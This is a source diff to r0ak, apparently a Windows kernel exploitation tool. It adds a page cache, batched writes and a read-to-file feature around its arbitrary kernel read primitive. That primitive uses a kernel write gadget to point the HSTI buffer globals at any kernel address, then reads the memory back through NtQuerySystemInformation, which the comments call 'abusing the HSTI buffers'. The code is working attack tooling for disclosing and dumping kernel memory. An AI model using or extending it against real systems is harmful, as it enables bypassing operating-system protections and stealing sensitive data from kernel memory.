@@ -22,49 +22,704 @@ Environment:
 
 #include "r0ak.h"
 
+//
+// Internal definitions
+//
+#define PAGE_SIZE                   4096
+#define CMD_CACHE_PAGES             256
+#define CMD_CACHE_MAX_READ          (64 * 1024)
+
+//
+// Chunk of the output file handed off to be flushed
+//
+typedef struct _CMD_FLUSH_CONTEXT
+{
+    PVOID View;
+    ULONG Size;
+} CMD_FLUSH_CONTEXT, *PCMD_FLUSH_CONTEXT;
+
+//
+// What was last programmed into the HSTI globals, if anything. This only
+// lasts for the r0ak process, since there's no telling what was left there
+// by a previous one.
+//
+BOOL g_HstiWindowValid;
+ULONG g_HstiWindowSize;
+ULONG_PTR g_HstiWindowPointer;
+
+//
+// A kernel page that was read before, tagged with the generation and time
+// at which it was read
+//
+typedef struct _CMD_CACHE_PAGE
+{
+    ULONG_PTR PageAddress;
+    ULONG Generation;
+    ULONGLONG ReadTime;
+    UCHAR Data[PAGE_SIZE];
+} CMD_CACHE_PAGE, *PCMD_CACHE_PAGE;
+
+//
+// Direct-mapped cache of kernel pages, kept for the whole session. Pages are
+// stale once the generation moves on, or once they're older than the TTL.
+//
+PCMD_CACHE_PAGE g_ReadCache;
+ULONG g_ReadCacheGeneration = 1;
+ULONG g_ReadCacheTtl = INFINITE;
+ULONG g_ReadCacheHits;
+ULONG g_ReadCacheMisses;
+ULONG g_ReadCacheEvictions;
+ULONG g_ReadCacheExpirations;
+
 _Success_(return != 0)
 BOOL
-CmdReadKernel (
+CmdpSetReadWindow (
     _In_ PKERNEL_EXECUTE KernelExecute,
     _In_ PVOID KernelAddress,
     _In_ ULONG ValueSize
     )
 {
     BOOL b;
+    PVOID writeAddresses[3];
+    ULONG writeValues[3];
+    ULONG count;
+
+    //
+    // Set the size that the user wants, and the pointer -- our write is
+    // 32-bits so that takes 2 steps. Only the dwords which differ from what
+    // was programmed last time need to be written, and they all go out as
+    // one batch.
+    //
+    count = 0;
+    if ((g_HstiWindowValid == FALSE) || (g_HstiWindowSize != ValueSize))
+    {
+        printf("[+] Setting size to                                      0x%.16lX\n",
+               ValueSize);
+        writeAddresses[count] = g_HstiBufferSize;
+        writeValues[count] = ValueSize;
+        count++;
+    }
+    if ((g_HstiWindowValid == FALSE) ||
+        (g_HstiWindowPointer != (ULONG_PTR)KernelAddress))
+    {
+        printf("[+] Setting pointer to                                   0x%.16p\n",
+               KernelAddress);
+    }
+    if ((g_HstiWindowValid == FALSE) ||
+        ((ULONG)g_HstiWindowPointer != (ULONG)(ULONG_PTR)KernelAddress))
+    {
+        writeAddresses[count] = g_HstiBufferPointer;
+        writeValues[count] = (ULONG)((ULONG_PTR)KernelAddress & 0xFFFFFFFF);
+        count++;
+    }
+    if ((g_HstiWindowValid == FALSE) ||
+        ((g_HstiWindowPointer >> 32) != ((ULONG_PTR)KernelAddress >> 32)))
+    {
+        writeAddresses[count] = (PVOID)((ULONG_PTR)g_HstiBufferPointer + 4);
+        writeValues[count] = (ULONG)((ULONG_PTR)KernelAddress >> 32);
+        count++;
+    }
+
+    //
+    // If any write fails, the state of the globals is no longer known
+    //
+    b = CmdWriteKernelBatch(KernelExecute, writeAddresses, writeValues, count);
+    if (b == FALSE)
+    {
+        printf("[-] Fail to set size and pointer\n");
+        g_HstiWindowValid = FALSE;
+        return b;
+    }
+    g_HstiWindowValid = TRUE;
+    g_HstiWindowSize = ValueSize;
+    g_HstiWindowPointer = (ULONG_PTR)KernelAddress;
+    return b;
+}
+
+_Success_(return != 0)
+BOOL
+CmdpReadKernelData (
+    _In_ PKERNEL_EXECUTE KernelExecute,
+    _In_ PVOID KernelAddress,
+    _In_ ULONG ValueSize,
+    _Out_writes_bytes_(ValueSize) PVOID Buffer
+    )
+{
     NTSTATUS status;
-    PVOID userData;
+    BOOL b;
 
     //
-    // First, set the size that the user wants
+    // Point the HSTI buffer at the data
     //
-    printf("[+] Setting size to                                      0x%.16lX\n",
-           ValueSize);
-    b = CmdWriteKernel(KernelExecute, g_HstiBufferSize, ValueSize);
+    b = CmdpSetReadWindow(KernelExecute, KernelAddress, ValueSize);
     if (b == FALSE)
     {
-        printf("[-] Fail to set size\n");
         return b;
     }
 
     //
-    // Then, set the pointer -- our write is 32-bits so we do it in 2 steps
+    // Now do the read by abusing the HSTI buffers
+    //
+    status = NtQuerySystemInformation(
+        SystemHardwareSecurityTestInterfaceResultsInformation,
+        Buffer,
+        ValueSize,
+        NULL);
+    if (!NT_SUCCESS(status))
+    {
+        printf("[-] Failed to read kernel data\n");
+        return FALSE;
+    }
+    return TRUE;
+}
+
+_Success_(return != NULL)
+PCMD_CACHE_PAGE
+CmdpLookupCachePage (
+    _In_ ULONG_PTR PageAddress
+    )
+{
+    PCMD_CACHE_PAGE page;
+
+    //
+    // Check the only slot this page can be in
+    //
+    page = &g_ReadCache[(PageAddress / PAGE_SIZE) % CMD_CACHE_PAGES];
+    if ((page->PageAddress != PageAddress) ||
+        (page->Generation != g_ReadCacheGeneration))
+    {
+        return NULL;
+    }
+
+    //
+    // Volatile data may have changed since it was read
+    //
+    if ((g_ReadCacheTtl != INFINITE) &&
+        ((GetTickCount64() - page->ReadTime) >= g_ReadCacheTtl))
+    {
+        page->PageAddress = 0;
+        g_ReadCacheExpirations++;
+        return NULL;
+    }
+    return page;
+}
+
+VOID
+CmdpInsertCachePage (
+    _In_ ULONG_PTR PageAddress,
+    _In_reads_bytes_(PAGE_SIZE) PVOID Data
+    )
+{
+    PCMD_CACHE_PAGE page;
+
+    //
+    // Replace whatever other page lived in this slot
+    //
+    page = &g_ReadCache[(PageAddress / PAGE_SIZE) % CMD_CACHE_PAGES];
+    if ((page->PageAddress != 0) &&
+        (page->PageAddress != PageAddress) &&
+        (page->Generation == g_ReadCacheGeneration))
+    {
+        g_ReadCacheEvictions++;
+    }
+    page->PageAddress = PageAddress;
+    page->Generation = g_ReadCacheGeneration;
+    page->ReadTime = GetTickCount64();
+    RtlCopyMemory(page->Data, Data, PAGE_SIZE);
+}
+
+_Success_(return != 0)
+BOOL
+CmdpReadKernelCached (
+    _In_ PKERNEL_EXECUTE KernelExecute,
+    _In_ PVOID KernelAddress,
+    _In_ ULONG ValueSize,
+    _Out_writes_bytes_(ValueSize) PVOID Buffer
+    )
+{
+    ULONG_PTR address, end, pageAddress, runStart, runEnd;
+    PCMD_CACHE_PAGE page;
+    PUCHAR runData;
+    ULONG copySize;
+    BOOL b;
+
+    //
+    // Large reads go straight to the kernel
+    //
+    if (ValueSize > CMD_CACHE_MAX_READ)
+    {
+        return CmdpReadKernelData(KernelExecute, KernelAddress, ValueSize, Buffer);
+    }
+
+    //
+    // Allocate the cache the first time around
+    //
+    if (g_ReadCache == NULL)
+    {
+        g_ReadCache = HeapAlloc(GetProcessHeap(),
+                                HEAP_ZERO_MEMORY,
+                                CMD_CACHE_PAGES * sizeof(*g_ReadCache));
+        if (g_ReadCache == NULL)
+        {
+            return CmdpReadKernelData(KernelExecute,
+                                      KernelAddress,
+                                      ValueSize,
+                                      Buffer);
+        }
+    }
+
+    //
+    // Walk the pages of the range -- reading whole pages is safe, since the
+    // caller's data already makes each of them accessible
     //
-    printf("[+] Setting pointer to                                   0x%.16p\n",
-           KernelAddress);
-    b = CmdWriteKernel(KernelExecute,
-                        g_HstiBufferPointer,
-                        (ULONG_PTR)KernelAddress & 0xFFFFFFFF);
+    address = (ULONG_PTR)KernelAddress;
+    end = address + ValueSize;
+    runData = NULL;
+    b = TRUE;
+    while (address < end)
+    {
+        pageAddress = address & ~((ULONG_PTR)PAGE_SIZE - 1);
+        copySize = (ULONG)(min(end, pageAddress + PAGE_SIZE) - address);
+
+        //
+        // Serve cached pages from memory
+        //
+        page = CmdpLookupCachePage(pageAddress);
+        if (page != NULL)
+        {
+            g_ReadCacheHits++;
+            RtlCopyMemory((PUCHAR)Buffer + (address - (ULONG_PTR)KernelAddress),
+                          &page->Data[address - pageAddress],
+                          copySize);
+            address += copySize;
+            continue;
+        }
+
+        //
+        // Read every missing page up to the next cached one all at once
+        //
+        runStart = pageAddress;
+        runEnd = pageAddress + PAGE_SIZE;
+        g_ReadCacheMisses++;
+        while ((runEnd < end) &&
+               (CmdpLookupCachePage(runEnd) == NULL))
+        {
+            runEnd += PAGE_SIZE;
+            g_ReadCacheMisses++;
+        }
+        runData = HeapAlloc(GetProcessHeap(), 0, runEnd - runStart);
+        if (runData == NULL)
+        {
+            printf("[-] Out of memory reading kernel data\n");
+            b = FALSE;
+            break;
+        }
+        b = CmdpReadKernelData(KernelExecute,
+                               (PVOID)runStart,
+                               (ULONG)(runEnd - runStart),
+                               runData);
+        if (b == FALSE)
+        {
+            HeapFree(GetProcessHeap(), 0, runData);
+            break;
+        }
+
+        //
+        // Cache every page of it, and copy out the part the caller wanted
+        //
+        for (pageAddress = runStart; pageAddress < runEnd; pageAddress += PAGE_SIZE)
+        {
+            CmdpInsertCachePage(pageAddress, runData + (pageAddress - runStart));
+        }
+        copySize = (ULONG)(min(end, runEnd) - address);
+        RtlCopyMemory((PUCHAR)Buffer + (address - (ULONG_PTR)KernelAddress),
+                      runData + (address - runStart),
+                      copySize);
+        HeapFree(GetProcessHeap(), 0, runData);
+        address += copySize;
+    }
+    return b;
+}
+
+_Success_(return != 0)
+BOOL
+CmdReadKernelRanges (
+    _In_ PKERNEL_EXECUTE KernelExecute,
+    _Inout_updates_(Count) PCMD_READ_RANGE Ranges,
+    _In_ ULONG Count,
+    _In_ ULONG GapThreshold
+    )
+{
+    PCMD_READ_PLAN plans;
+    PCMD_READ_RANGE range;
+    PULONG order;
+    PUCHAR data;
+    ULONG i, j, planCount;
+    BOOL b;
+
+    //
+    // Make sure we have the HSTI buffer variables
+    //
+    b = SymResolveGadgets(SYM_GADGET_HSTI);
     if (b == FALSE)
     {
-        printf("[-] Fail to set lower pointer bits\n");
+        printf("[-] Failed to find read gadgets\n");
         return b;
     }
-    b = CmdWriteKernel(KernelExecute,
-                        (PVOID)((ULONG_PTR)g_HstiBufferPointer + 4),
-                        (ULONG_PTR)KernelAddress >> 32);
+
+    //
+    // Plan out the fewest reads that cover all of the ranges
+    //
+    order = HeapAlloc(GetProcessHeap(), 0, Count * sizeof(*order));
+    plans = HeapAlloc(GetProcessHeap(), 0, Count * sizeof(*plans));
+    if ((order == NULL) || (plans == NULL))
+    {
+        printf("[-] Out of memory planning reads\n");
+        b = FALSE;
+        goto Cleanup;
+    }
+    planCount = CmdPlanReads(Ranges, Count, GapThreshold, order, plans);
+    printf("[+] Reading %lu ranges with %lu reads\n", Count, planCount);
+
+    //
+    // Do each read, and slice the data back out to the ranges it covers
+    //
+    for (i = 0; i < planCount; i++)
+    {
+        data = HeapAlloc(GetProcessHeap(), 0, plans[i].Size);
+        if (data == NULL)
+        {
+            printf("[-] Out of memory reading kernel data\n");
+            b = FALSE;
+            break;
+        }
+        b = CmdpReadKernelCached(KernelExecute,
+                                 (PVOID)plans[i].Start,
+                                 plans[i].Size,
+                                 data);
+        if (b != FALSE)
+        {
+            for (j = 0; j < plans[i].RangeCount; j++)
+            {
+                range = &Ranges[order[plans[i].FirstRange + j]];
+                RtlCopyMemory(range->Buffer,
+                              data + ((ULONG_PTR)range->KernelAddress -
+                                      plans[i].Start),
+                              range->Size);
+            }
+        }
+        HeapFree(GetProcessHeap(), 0, data);
+        if (b == FALSE)
+        {
+            break;
+        }
+    }
+
+Cleanup:
+    if (order != NULL)
+    {
+        HeapFree(GetProcessHeap(), 0, order);
+    }
+    if (plans != NULL)
+    {
+        HeapFree(GetProcessHeap(), 0, plans);
+    }
+    return b;
+}
+
+VOID
+CmdInvalidateReadCache (
+    _In_opt_ PVOID KernelAddress,
+    _In_ ULONG Size
+    )
+{
+    ULONG_PTR pageAddress, end;
+    PCMD_CACHE_PAGE page;
+
+    //
+    // Without an address, move on to a new generation, which drops everything,
+    // including what we know about the HSTI globals
+    //
+    if (KernelAddress == NULL)
+    {
+        g_ReadCacheGeneration++;
+        g_HstiWindowValid = FALSE;
+        return;
+    }
+
+    //
+    // The HSTI globals have to be written again if something else wrote them
+    //
+    if ((((ULONG_PTR)KernelAddress < ((ULONG_PTR)g_HstiBufferSize + sizeof(ULONG))) &&
+         (((ULONG_PTR)KernelAddress + Size) > (ULONG_PTR)g_HstiBufferSize)) ||
+        (((ULONG_PTR)KernelAddress < ((ULONG_PTR)g_HstiBufferPointer + sizeof(PVOID))) &&
+         (((ULONG_PTR)KernelAddress + Size) > (ULONG_PTR)g_HstiBufferPointer)))
+    {
+        g_HstiWindowValid = FALSE;
+    }
+
+    //
+    // Otherwise drop just the pages in the range
+    //
+    if (g_ReadCache == NULL)
+    {
+        return;
+    }
+    pageAddress = (ULONG_PTR)KernelAddress & ~((ULONG_PTR)PAGE_SIZE - 1);
+    end = (ULONG_PTR)KernelAddress + Size;
+    for (; pageAddress < end; pageAddress += PAGE_SIZE)
+    {
+        page = &g_ReadCache[(pageAddress / PAGE_SIZE) % CMD_CACHE_PAGES];
+        if (page->PageAddress == pageAddress)
+        {
+            page->PageAddress = 0;
+        }
+    }
+}
+
+VOID
+CmdSetReadCacheTtl (
+    _In_ ULONG Ttl
+    )
+{
+    //
+    // A TTL of zero means pages never expire, like INFINITE
+    //
+    g_ReadCacheTtl = (Ttl != 0) ? Ttl : INFINITE;
+}
+
+VOID
+CmdReadCacheTeardown (
+    VOID
+    )
+{
+    //
+    // Show how well the cache did, if it was used at all
+    //
+    if ((g_ReadCacheHits + g_ReadCacheMisses) != 0)
+    {
+        printf("[+] Read cache: %lu hits, %lu misses, %lu evictions, %lu expirations\n",
+               g_ReadCacheHits,
+               g_ReadCacheMisses,
+               g_ReadCacheEvictions,
+               g_ReadCacheExpirations);
+    }
+
+    //
+    // And free it
+    //
+    if (g_ReadCache != NULL)
+    {
+        HeapFree(GetProcessHeap(), 0, g_ReadCache);
+        g_ReadCache = NULL;
+    }
+}
+
+VOID
+CALLBACK
+CmdpFlushChunk (
+    _Inout_ PTP_CALLBACK_INSTANCE Instance,
+    _In_ PVOID Context,
+    _In_ PTP_WORK Work
+    )
+{
+    PCMD_FLUSH_CONTEXT flushContext;
+
+    UNREFERENCED_PARAMETER(Instance);
+    UNREFERENCED_PARAMETER(Work);
+
+    //
+    // Write the chunk out to disk and drop it from our address space
+    //
+    flushContext = (PCMD_FLUSH_CONTEXT)Context;
+    if (FlushViewOfFile(flushContext->View, flushContext->Size) == FALSE)
+    {
+        printf("[-] Failed to flush output file: %lx\n", GetLastError());
+    }
+    UnmapViewOfFile(flushContext->View);
+}
+
+_Success_(return != 0)
+BOOL
+CmdReadKernelToFile (
+    _In_ PKERNEL_EXECUTE KernelExecute,
+    _In_ PVOID KernelAddress,
+    _In_ ULONG ValueSize,
+    _In_ PCCH OutputFile
+    )
+{
+    BOOL b;
+    NTSTATUS status;
+    HANDLE hFile, hMapping;
+    LARGE_INTEGER fileSize;
+    ULONGLONG offset;
+    ULONG chunkSize, bytesReturned;
+    PVOID view;
+    PTP_WORK flushWork;
+    CMD_FLUSH_CONTEXT flushContext;
+
+    //
+    // Make sure we have the HSTI buffer variables
+    //
+    b = SymResolveGadgets(SYM_GADGET_HSTI);
     if (b == FALSE)
     {
-        printf("[-] Fail to set lower pointer bits\n");
+        printf("[-] Failed to find read gadgets\n");
+        return b;
+    }
+    if (ValueSize == 0)
+    {
+        printf("[-] Nothing to read\n");
+        return FALSE;
+    }
+
+    //
+    // Create the output file as a sparse file of the full size, so that
+    // nothing is allocated on disk before data is actually written to it
+    //
+    hFile = CreateFileA(OutputFile,
+                        GENERIC_READ | GENERIC_WRITE,
+                        0,
+                        NULL,
+                        CREATE_ALWAYS,
+                        FILE_ATTRIBUTE_NORMAL,
+                        NULL);
+    if (hFile == INVALID_HANDLE_VALUE)
+    {
+        printf("[-] Failed to create %s: %lx\n", OutputFile, GetLastError());
+        return FALSE;
+    }
+    DeviceIoControl(hFile,
+                    FSCTL_SET_SPARSE,
+                    NULL,
+                    0,
+                    NULL,
+                    0,
+                    &bytesReturned,
+                    NULL);
+    fileSize.QuadPart = ValueSize;
+    b = SetFilePointerEx(hFile, fileSize, NULL, FILE_BEGIN);
+    if (b != FALSE)
+    {
+        b = SetEndOfFile(hFile);
+    }
+    if (b == FALSE)
+    {
+        printf("[-] Failed to size %s: %lx\n", OutputFile, GetLastError());
+        CloseHandle(hFile);
+        return b;
+    }
+
+    //
+    // Map it, so that each chunk is read by the kernel straight into the file
+    //
+    hMapping = CreateFileMappingA(hFile, NULL, PAGE_READWRITE, 0, 0, NULL);
+    if (hMapping == NULL)
+    {
+        printf("[-] Failed to map %s: %lx\n", OutputFile, GetLastError());
+        CloseHandle(hFile);
+        return FALSE;
+    }
+
+    //
+    // Chunks are flushed on the thread pool, while the next one is read
+    //
+    flushWork = CreateThreadpoolWork(CmdpFlushChunk, &flushContext, NULL);
+    if (flushWork == NULL)
+    {
+        printf("[-] Failed to create flush work: %lx\n", GetLastError());
+        CloseHandle(hMapping);
+        CloseHandle(hFile);
+        return FALSE;
+    }
+
+    //
+    // Walk the range one chunk at a time, so that only about two chunks are
+    // ever mapped, no matter how much is read
+    //
+    status = STATUS_SUCCESS;
+    for (offset = 0; offset < ValueSize; offset += chunkSize)
+    {
+        chunkSize = (ULONG)min(ValueSize - offset, CMD_READ_CHUNK_SIZE);
+        view = MapViewOfFile(hMapping,
+                             FILE_MAP_WRITE,
+                             (ULONG)(offset >> 32),
+                             (ULONG)offset,
+                             chunkSize);
+        if (view == NULL)
+        {
+            printf("[-] Failed to map output chunk: %lx\n", GetLastError());
+            b = FALSE;
+            break;
+        }
+
+        //
+        // Point the HSTI buffer at this chunk, and read it
+        //
+        b = CmdpSetReadWindow(KernelExecute,
+                              (PVOID)((ULONG_PTR)KernelAddress + offset),
+                              chunkSize);
+        if (b != FALSE)
+        {
+            status = NtQuerySystemInformation(
+                SystemHardwareSecurityTestInterfaceResultsInformation,
+                view,
+                chunkSize,
+                NULL);
+            if (!NT_SUCCESS(status))
+            {
+                printf("[-] Failed to read kernel data at 0x%.16p\n",
+                       (PVOID)((ULONG_PTR)KernelAddress + offset));
+                b = FALSE;
+            }
+        }
+        if (b == FALSE)
+        {
+            UnmapViewOfFile(view);
+            break;
+        }
+
+        //
+        // Wait for the previous chunk to be flushed, then hand off this one
+        //
+        WaitForThreadpoolWorkCallbacks(flushWork, FALSE);
+        flushContext.View = view;
+        flushContext.Size = chunkSize;
+        SubmitThreadpoolWork(flushWork);
+        printf("[+] Read 0x%llX of 0x%lX bytes into %s\n",
+               offset + chunkSize,
+               ValueSize,
+               OutputFile);
+    }
+
+    //
+    // Wait for the last flush, and close everything
+    //
+    WaitForThreadpoolWorkCallbacks(flushWork, FALSE);
+    CloseThreadpoolWork(flushWork);
+    CloseHandle(hMapping);
+    CloseHandle(hFile);
+    return b;
+}
+
+_Success_(return != 0)
+BOOL
+CmdReadKernel (
+    _In_ PKERNEL_EXECUTE KernelExecute,
+    _In_ PVOID KernelAddress,
+    _In_ ULONG ValueSize
+    )
+{
+    BOOL b;
+    PVOID userData;
+
+    //
+    // Make sure we have the HSTI buffer variables
+    //
+    b = SymResolveGadgets(SYM_GADGET_HSTI);
+    if (b == FALSE)
+    {
+        printf("[-] Failed to find read gadgets\n");
         return b;
     }
 
@@ -82,26 +737,17 @@ CmdReadKernel (
     }
 
     //
-    // Now do the read by abusing the HSTI buffers
+    // Now do the read, going through the page cache
     //
-    status = NtQuerySystemInformation(
-        SystemHardwareSecurityTestInterfaceResultsInformation,
-        userData,
-        ValueSize,
-        NULL);
-    if (!NT_SUCCESS(status))
+    b = CmdpReadKernelCached(KernelExecute, KernelAddress, ValueSize, userData);
+    if (b != FALSE)
     {
-        printf("[-] Failed to read kernel data\n");
-    }
-    else
-    {
-        DumpHex(userData, ValueSize);
+        DumpHex(userData, ValueSize, (ULONG_PTR)KernelAddress);
     }
 
     //
     // Free the buffer and exit
     //
     VirtualFree(userData, 0, MEM_RELEASE);
-    return NT_SUCCESS(status);
+    return b;
 }
-